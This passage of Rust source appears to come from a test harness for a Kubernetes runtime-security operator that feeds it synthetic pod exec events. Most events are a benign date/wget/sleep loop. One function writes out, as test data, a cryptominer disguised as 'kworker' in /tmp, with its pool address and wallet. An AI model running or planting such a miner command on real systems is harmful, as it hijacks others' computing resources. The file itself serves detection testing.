                &format!("/api/v1/namespaces/{NS}/pods/{name}/status"),
                "-f",
                "-",
            ],
            Some(&current.to_string()),
        )?;
        out.push(PodRun {
            name,
            container_id,
            main_pid: 41_000 + i as u32 * 1_000,
            cgroup: 9_000 + i as u64,
        });
    }
    Ok(out)
}

/// Monotonic event time.
#[derive(Default)]
struct Clock(u64);

impl Clock {
    fn next(&mut self) -> u64 {
        self.0 += 1_000_000;
        self.0
    }
}

/// One pass of the workload's loop in a pod: `date`, `wget` with a request
/// id that changes every time, `sleep 1`.
fn benign(p: &PodRun, i: u64, clock: &mut Clock) -> Vec<WorkloadEvent> {
    let request = format!(
        "{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}",
        i * 2_654_435_761 % 0xffff_ffff,
        i % 0xffff,
        i % 0xfff,
        (i * 7) % 0xfff,
        i * 1_000_003
    );
    vec![
        exec(p, clock, "sh", "/bin/date", &["date"]),
        exec(
            p,
            clock,
            "sh",
            "/bin/wget",
            &[
                "wget",
                "-q",
                "-O-",
                &format!("http://backend:8080/api?request_id={request}"),
            ],
        ),
        exec(p, clock, "sh", "/bin/sleep", &["sleep", "1"]),
    ]
}

/// The attack: a miner renamed `kworker`, dropped in /tmp, run by the
/// pod's shell.
fn miner(p: &PodRun, clock: &mut Clock) -> WorkloadEvent {
    exec(
        p,
        clock,
        "sh",
        "/tmp/kworker",
        &[
            "/tmp/kworker",
            "-o",
            "stratum+tcp://pool.supportxmr.com:3333",
            "-u",
            "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
            "-p",
            "x",
            "--donate-level",
            "1",
        ],
    )
}

/// An exec event as the node agent forwards it: the new program under the
/// pod's `sh` loop (pid 1 of the container).
fn exec(
    p: &PodRun,
    clock: &mut Clock,
    parent: &str,
    filename: &str,
    argv: &[&str],
) -> WorkloadEvent {
    let pid = p.main_pid + 1 + (clock.0 / 1_000_000 % 20_000) as u32;
    let exe = filename.rsplit('/').next().unwrap_or(filename);
    let args: Vec<ByteStr> = argv.iter().map(|a| ByteStr::from(*a)).collect();
    let size = argv.iter().map(|a| a.len() as u32 + 1).sum();
    let event = Event {
        ts_ns: clock.next(),
        cgroup_id: p.cgroup,
        task: Some(Task {
            pid,
            tid: pid,
            ppid: p.main_pid,
            uid: 0,
            comm: exe.into(),
        }),
        ns: Namespaces {
            pid: 4_026_532_000 + p.cgroup as u32,
            mnt: 4_026_533_000 + p.cgroup as u32,
        },
        container: Some(ContainerRef {
            id: p.container_id.clone(),
            runtime: Runtime::Containerd,
        }),
        kind: EventKind::Exec(Exec {
            filename: filename.into(),
            exe: exe.into(),
            parent_comm: parent.into(),
            ns_pid: pid - p.main_pid + 1,
            argv: Argv {
                args,
                size,
                truncated: false,
                read_failed: false,
            },
            from_proc_scan: false,
            dir: None,
        }),
    };
    let root = Ancestor {
        pid: p.main_pid,
        exe: "sh".into(),
        argv: vec![
            "sh".into(),
            "-c".into(),
            "while true; do date; wget -q -O- http://backend:8080/api; sleep 1; done".into(),
        ],
    };
    WorkloadEvent {
        // the agent's own guess; the operator decides from its watches
        workload: String::new(),
        image: String::new(),
        event,
        process: Some(Ancestor {
            pid,
            exe: exe.into(),
            argv: argv.iter().map(|a| a.to_string()).collect(),
        }),
        chain: vec![root],
    }
}

/// The operator's listening address, from its first stderr line; the rest
/// of stderr goes on into the log.
fn listening(op: &mut Child, log: &std::fs::File) -> Result<String> {
    let stderr = op.stderr.take().context("operator stderr")?;
    let (tx, rx) = std::sync::mpsc::channel();
    let mut log = log.try_clone()?;
    std::thread::spawn(move || {
        use std::io::Write as _;
        let mut sent = false;
        for line in BufReader::new(stderr).lines().map_while(Result::ok) {
            let _ = writeln!(log, "{line}");
            if !sent {
                if let Some(a) = serde_json::from_str::<Value>(&line)
                    .ok()
                    .and_then(|v| v["listening"].as_str().map(String::from))
                {
                    let _ = tx.send(a);
                    sent = true;
                }
            }
        }
    });
    rx.recv_timeout(Duration::from_secs(120))
        .context("the operator did not start listening within 120 s (see operator.log)")
}

fn wait_timeout(c: &mut Child, limit: Duration) -> Option<std::process::ExitStatus> {
    let t = Instant::now();
    while t.elapsed() < limit {
        if let Ok(Some(s)) = c.try_wait() {
            return Some(s);
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let _ = c.kill();
    None
}
